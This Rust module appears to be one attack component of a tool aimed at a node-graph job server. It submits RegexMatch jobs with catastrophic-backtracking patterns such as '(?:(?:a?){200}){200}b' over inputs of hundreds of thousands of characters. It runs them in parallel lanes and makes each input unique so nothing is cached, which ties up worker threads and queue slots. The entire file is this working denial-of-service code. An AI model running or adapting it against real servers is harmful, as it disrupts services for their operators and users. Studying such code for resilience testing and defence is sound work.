//! Regular expressions that backtrack without end, over long texts, in jobs that are cancelled as soon as their node runs.

use std::io;

use async_trait::async_trait;
use serde_json::json;

use super::graphs::{follow, number, submit};
use super::lane::{End, Lane};
use super::{Strike, Target};

/// Jobs at a time.
const LANES: usize = 4;

/// Patterns with the number of letters that each looks through.
const PATTERNS: [(&str, usize); 2] = [
    ("(?:(?=.*x)a)*b", 900_000),
    ("(?:(?:a?){200}){200}b", 500_000),
];

pub(super) struct Regex(Target);

impl Regex {
    pub(super) fn new(target: &Target) -> Self {
        Self(target.clone())
    }
}

#[async_trait]
impl Strike for Regex {
    fn lanes(&self) -> usize {
        LANES
    }

    fn refusals(&self) -> &'static [(u16, &'static str)] {
        &[(429, "rate_limited"), (429, "queue_full")]
    }

    fn answers(&self) -> &'static [u16] {
        &[]
    }

    async fn occupy(&self) -> io::Result<()> {
        Ok(())
    }

    async fn strike(&self, lane: &Lane) -> io::Result<End> {
        let (pattern, letters) = PATTERNS[lane.number % PATTERNS.len()];
        // No two texts are the same, so that nothing was matched before.
        let text = format!("{}{}", number(), "a".repeat(letters));
        let inputs = json!({
            "string": text, "regex_pattern": pattern, "case_insensitive": false, "multiline": false, "dotall": false,
        });
        let graph = json!({
            "1": {"class_type": "RegexMatch", "inputs": inputs},
            "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 0]}},
        });
        let id = match submit(&self.0, &graph).await? {
            Ok(id) => id,
            Err(refused) => return Ok(End::Told(refused)),
        };
        // A job that waits is held, too: it takes a place in the queue.
        let _waiting = lane.hold();
        // Cancelled, it leaves its slot to the next one; a node that does not stop keeps its thread.
        follow(&self.0, lane, &id, Some("RegexMatch")).await?;
        Ok(End::Done)
    }
}
